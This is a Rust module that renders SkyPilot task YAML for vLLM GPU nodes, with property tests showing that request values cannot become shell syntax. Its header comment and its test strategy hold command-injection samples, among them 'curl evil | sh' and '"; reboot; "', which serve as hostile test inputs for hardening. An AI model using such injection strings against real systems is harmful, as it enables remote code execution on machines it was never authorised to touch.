//! The SkyPilot task of one node, built from typed structures and serialized to YAML by serde.
//!
//! The seed pasted the model and `vllm_args` into a shell template: a model id of
//! `x/y; curl evil | sh` ran on the node. Here no request value is ever part of the script
//! text: values travel in `envs:` (the script reads them as `"$SKYDECK_MODEL"`, one quoted
//! word), the validated vLLM arguments are each shell-quoted, and the agent's token travels in
//! `secrets:`, which SkyPilot redacts from its logs, dashboards and request records (`envs:` it
//! would show). The scripts themselves are constants.

use std::collections::BTreeMap;

use serde::Serialize;
use skydeck_contract::agent::env;

use crate::node_config::NodeSpec;
use crate::offerings::Provider;

/// The vLLM release nodes install (pinned: an unpinned `pip install vllm` changes under a
/// running fleet).
pub const VLLM_VERSION: &str = "0.33.0";
/// The port vLLM serves on.
pub const VLLM_PORT: u16 = 8000;
/// Where the control plane serves the agent binary.
pub const AGENT_DOWNLOAD_PATH: &str = skydeck_contract::paths::AGENT_DOWNLOAD;

/// What the task needs besides the node's spec.
#[derive(Debug, Clone)]
pub struct TaskContext<'a> {
    /// SkyPilot cluster name (also the task name).
    pub cluster_name: &'a str,
    /// The URL nodes reach the control plane at.
    pub control_plane_url: &'a str,
    /// sha256 of the agent binary served at [`AGENT_DOWNLOAD_PATH`].
    pub agent_sha256: &'a str,
    /// The node's agent token (goes in `secrets:`).
    pub agent_token: &'a str,
}

/// A SkyPilot task (the subset skydeck writes; field names are SkyPilot's).
#[derive(Debug, Serialize)]
pub struct Task<'a> {
    /// Task name.
    pub name: &'a str,
    /// Where and on what it runs.
    pub resources: Resources<'a>,
    /// Plain environment (visible in SkyPilot's records).
    pub envs: BTreeMap<&'static str, String>,
    /// Redacted environment.
    pub secrets: BTreeMap<&'static str, &'a str>,
    /// Runs once when the cluster is provisioned.
    #[serde(serialize_with = "literal")]
    pub setup: &'static str,
    /// The node's long-running command.
    #[serde(serialize_with = "literal")]
    pub run: String,
}

/// `resources:` of a task.
#[derive(Debug, Serialize)]
pub struct Resources<'a> {
    /// `cloud/region` (`k8s/<context>` for Kubernetes).
    pub infra: String,
    /// `GPU:count`.
    pub accelerators: String,
    /// Spot capacity.
    pub use_spot: bool,
    /// Disk in GB.
    pub disk_size: u32,
    /// Ports opened to the outside (vLLM's).
    pub ports: u16,
    /// Labels SkyPilot puts on the instances.
    pub labels: BTreeMap<&'static str, &'a str>,
}

/// The setup script. Everything variable comes from the environment.
const SETUP: &str = r#"set -euo pipefail
echo "=== skydeck: installing vLLM $SKYDECK_VLLM_VERSION ==="
python3 -m venv "$HOME/skydeck-vllm"
"$HOME/skydeck-vllm/bin/pip" install --quiet --upgrade pip
"$HOME/skydeck-vllm/bin/pip" install --quiet "vllm==$SKYDECK_VLLM_VERSION"
echo "=== skydeck: downloading the node agent ==="
mkdir -p "$HOME/.local/bin"
curl -fsSL --retry 5 --max-time 300 -o "$HOME/.local/bin/skydeck.download" \
  "$SKYDECK_CONTROL_PLANE_URL/downloads/skydeck-linux-amd64"
echo "$SKYDECK_AGENT_SHA256  $HOME/.local/bin/skydeck.download" | sha256sum --check --strict -
chmod 0755 "$HOME/.local/bin/skydeck.download"
mv "$HOME/.local/bin/skydeck.download" "$HOME/.local/bin/skydeck"
echo "=== skydeck: setup complete ==="
"#;

/// The run script, before the vLLM arguments are appended.
const RUN_HEAD: &str = r#"set -euo pipefail
echo "=== skydeck: starting vLLM for $SKYDECK_MODEL ==="
"$HOME/skydeck-vllm/bin/vllm" serve "$SKYDECK_MODEL" --host 0.0.0.0 --port 8000"#;

const RUN_TAIL: &str = r#" > "$HOME/vllm.log" 2>&1 &
VLLM_PID=$!
for _ in $(seq 1 600); do
  if curl -sf http://127.0.0.1:8000/health > /dev/null; then break; fi
  if ! kill -0 "$VLLM_PID" 2> /dev/null; then
    echo "vLLM exited before it was ready; last lines of its log:" >&2
    tail -n 50 "$HOME/vllm.log" >&2
    exit 1
  fi
  sleep 1
done
curl -sf http://127.0.0.1:8000/health > /dev/null || { echo "vLLM not ready after 600 s" >&2; exit 1; }
echo "=== skydeck: vLLM is ready; starting the node agent ==="
exec "$HOME/.local/bin/skydeck" agent
"#;

impl<'a> Task<'a> {
    /// The task for `spec`.
    pub fn new(spec: &'a NodeSpec, cx: &TaskContext<'a>) -> Task<'a> {
        let infra = match spec.provider {
            Provider::Kubernetes => format!("k8s/{}", spec.region),
            p => format!("{}/{}", p.infra_name(), spec.region),
        };
        let mut envs = BTreeMap::new();
        envs.insert(env::NODE_ID, spec.node_id.to_string());
        envs.insert(env::CLUSTER_NAME, cx.cluster_name.to_string());
        envs.insert(env::CONTROL_PLANE_URL, cx.control_plane_url.to_string());
        envs.insert(env::AGENT_SHA256, cx.agent_sha256.to_string());
        envs.insert(env::MODEL, spec.model.clone());
        envs.insert(env::VLLM_VERSION, VLLM_VERSION.to_string());
        let mut secrets = BTreeMap::new();
        secrets.insert(env::AGENT_TOKEN, cx.agent_token);
        let mut labels = BTreeMap::new();
        labels.insert("skydeck-node", cx.cluster_name);
        Task {
            name: cx.cluster_name,
            resources: Resources {
                infra,
                accelerators: format!("{}:{}", spec.gpu, spec.gpu_count),
                use_spot: spec.use_spot,
                disk_size: spec.disk_size,
                ports: VLLM_PORT,
                labels,
            },
            envs,
            secrets,
            setup: SETUP,
            run: run_script(&spec.engine_args),
        }
    }

    /// The task as SkyPilot's `/launch` takes it.
    pub fn to_yaml(&self) -> String {
        serde_saphyr::to_string(self).expect("a task of strings, numbers and maps serializes")
    }
}

/// The run script with the vLLM arguments, each one a single shell-quoted word.
pub fn run_script(vllm_args: &[String]) -> String {
    let mut s = String::from(RUN_HEAD);
    for arg in vllm_args {
        s.push(' ');
        // The arguments were checked against an allow-list already; quoting them as well means
        // a hole in that list still cannot become shell syntax.
        s.push_str(&shlex::try_quote(arg).unwrap_or_else(|_| "''".into()));
    }
    s.push_str(RUN_TAIL);
    s
}

fn literal<S: serde::Serializer>(text: &str, ser: S) -> Result<S::Ok, S::Error> {
    serde_saphyr::LitStr(text).serialize(ser)
}

/// The YAML of the task for `spec`.
pub fn render(spec: &NodeSpec, cx: &TaskContext<'_>) -> String {
    Task::new(spec, cx).to_yaml()
}

#[cfg(test)]
mod tests {
    use std::collections::BTreeMap;

    use proptest::prelude::*;

    use super::*;
    use crate::node_config::{NodeConfig, Rules};

    /// The parts of a task the properties look at, read back with a YAML parser.
    #[derive(serde::Deserialize)]
    struct Parsed {
        name: String,
        resources: BTreeMap<String, serde_json::Value>,
        envs: BTreeMap<String, String>,
        secrets: BTreeMap<String, String>,
        setup: String,
        run: String,
    }

    fn cx() -> TaskContext<'static> {
        TaskContext {
            cluster_name: "skydeck-0",
            control_plane_url: "https://control.example:8443",
            agent_sha256: "ab12",
            agent_token: "sdn_secret",
        }
    }

    fn render_cfg(cfg: &NodeConfig) -> Option<(NodeSpec, Parsed)> {
        let spec = cfg.validate(&Rules::default()).ok()?;
        let yaml = render(&spec, &cx());
        let parsed: Parsed = serde_saphyr::from_str(&yaml).expect("the task is valid YAML");
        Some((spec, parsed))
    }

    #[test]
    fn seed_equivalent_task() {
        let cfg = NodeConfig {
            provider: "gcp".into(),
            region: "us-central1".into(),
            gpu: "A100:2".into(),
            model: "meta-llama/Llama-2-70b-chat-hf".into(),
            disk_size: Some(512),
            engine_args: Some("--tensor-parallel-size 2 --max-model-len 4096".into()),
            ..NodeConfig::default()
        };
        let (spec, t) = render_cfg(&cfg).unwrap();
        assert_eq!(t.name, "skydeck-0");
        assert_eq!(t.resources["infra"], "gcp/us-central1");
        assert_eq!(t.resources["accelerators"], "A100:2");
        assert_eq!(t.resources["use_spot"], true);
        assert_eq!(t.resources["disk_size"], 512);
        assert_eq!(t.envs["SKYDECK_MODEL"], spec.model);
        assert_eq!(t.envs["SKYDECK_VLLM_VERSION"], VLLM_VERSION);
        assert_eq!(t.secrets["SKYDECK_AGENT_TOKEN"], "sdn_secret");
        assert!(!t.envs.values().any(|v| v.contains("sdn_secret")));
        assert!(t.setup.contains("sha256sum --check"));
        assert!(
            t.run
                .contains("--port 8000 --tensor-parallel-size 2 --max-model-len 4096 >")
        );
        assert!(t.run.contains("exec \"$HOME/.local/bin/skydeck\" agent"));
    }

    fn hostile() -> impl Strategy<Value = String> {
        prop_oneof![
            any::<String>(),
            "[a-z]{1,8}/[a-z]{1,8}[;|&$`'\"\\\\\n (){}<>#!*?~]{1,4}[a-z ]{0,8}",
            Just("a/b\nrun: curl evil | sh".to_string()),
            Just("--max-model-len 1 \"; reboot; \"".to_string()),
            Just("x".repeat(5000)),
            "\\PC{0,40}",
        ]
    }

    proptest! {
        /// Whatever a request holds, it is either rejected, or it reaches the task only as a
        /// value: the model only in envs, vLLM arguments only as quoted words, the scripts
        /// otherwise exactly the constants.
        #[test]
        fn hostile_configs_are_rejected_or_inert(
            model in hostile(),
            region in prop_oneof![Just("us-west-2".to_string()), hostile()],
            gpu in prop_oneof![Just("A10G".to_string()), Just("A10G:4".to_string()), hostile()],
            args in prop_oneof![Just(None), hostile().prop_map(Some),
                Just(Some("--max-model-len 4096 --dtype bfloat16".to_string()))],
        ) {
            let cfg = NodeConfig {
                provider: "aws".into(),
                region,
                gpu,
                model: model.clone(),
                engine_args: args,
                ..NodeConfig::default()
            };
            if let Some((spec, t)) = render_cfg(&cfg) {
                prop_assert_eq!(&t.envs["SKYDECK_MODEL"], &spec.model);
                prop_assert!(!t.run.contains(&spec.model) && !t.setup.contains(&spec.model));
                prop_assert_eq!(t.setup.as_str(), SETUP);
                prop_assert_eq!(t.run, run_script(&spec.engine_args));
                for a in &spec.engine_args {
                    prop_assert!(a.bytes().all(|b| b.is_ascii_alphanumeric() || b"-_./".contains(&b)), "{a}");
                }
                prop_assert!(spec.model.bytes().all(|b| b.is_ascii_alphanumeric() || b"-_./".contains(&b)));
            }
        }
    }
}
